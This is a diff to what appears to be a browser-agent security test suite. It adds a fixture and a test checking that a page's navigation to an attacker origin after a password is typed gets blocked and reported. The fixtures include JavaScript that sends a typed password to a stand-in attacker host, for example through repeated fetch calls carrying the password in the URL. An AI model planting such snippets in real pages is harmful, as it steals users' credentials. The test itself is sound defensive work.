@@ -64,6 +64,10 @@ const SENDERS: Record<string, string> = {
   allowedOther: `let asked = false
     const SEND = () => { if (!asked) { asked = true; fetch(A + '/allowed-fetch', { mode: 'no-cors' }); new Image().src = A + '/allowed-image.gif' } }
     document.getElementById('password').addEventListener('input', (e) => { if (e.target.value.length >= 14) SEND() })`,
+  // The tab itself leaves for another origin once the password is typed (no secret in the URL).
+  navigateAway: `let asked = false
+    const SEND = () => { if (!asked) { asked = true; location.href = A + '/away' } }
+    document.getElementById('password').addEventListener('input', (e) => { if (e.target.value.length >= 14) SEND() })`,
   afterRun: `const SEND = (pw) => setInterval(() => fetch(A + '/late?p=' + encodeURIComponent(pw), { mode: 'no-cors' }), 500)`,
 }
 const page = (
@@ -263,4 +267,13 @@ it("after typing, the run can go on to a second origin the task allows", async (
     ["navigate", true],
   ])
   expect(sent.map((line) => line.split(" ").slice(0, 2).join(" "))).toContain("GET /next-page")
+}, 60_000)
+
+it("after typing, the tab's move to another origin is blocked and said as a secret-origin event", async () => {
+  const { result, sent } = await signIn("navigateAway")
+  expect(sent).toEqual([])
+  expect(result.status).toBe("FAILED")
+  expect(result.summary.summary).toContain(
+    `the page tried to load a page on ${new URL(attacker.url).origin} (GET) after a secret was typed`,
+  )
 }, 60_000)
